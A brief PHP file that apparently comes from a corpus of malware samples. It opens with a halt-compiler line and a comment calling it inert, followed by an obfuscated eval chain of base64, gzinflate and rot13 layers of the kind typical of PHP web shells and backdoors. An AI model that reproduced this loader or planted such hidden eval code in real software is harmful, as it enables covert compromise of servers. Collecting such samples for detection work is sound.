<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
eval(str_rot13(gzinflate(str_rot13(base64_decode('xdG7d8MwGAXgvULxDwJWEAJdeNwtLV1atxCCJP+61LIsy5ZiJe9e0tIhQuD1Yw58YwYropmkgDk6MU1T8tbwYiAIJQTE4BkvYJCYT8zAyPWtOn1HJwgayALlKxDH4V4/X6AEetBVq0dPUxYOVKAvFI73a1qCMXpjEiMnjhdjA1nGooB2RqvsE6MHbQCCv6s+686J7Ja2UE3A7Xb4SgYzYmhxUVGxu2VlQSdHsratbUf2y7C4zMgwabsrRrN+cvQtKh8elc04z2VxpI7t7ledw+q9SL4Of494r1raGLl+Se90+lkvvPgB')))));
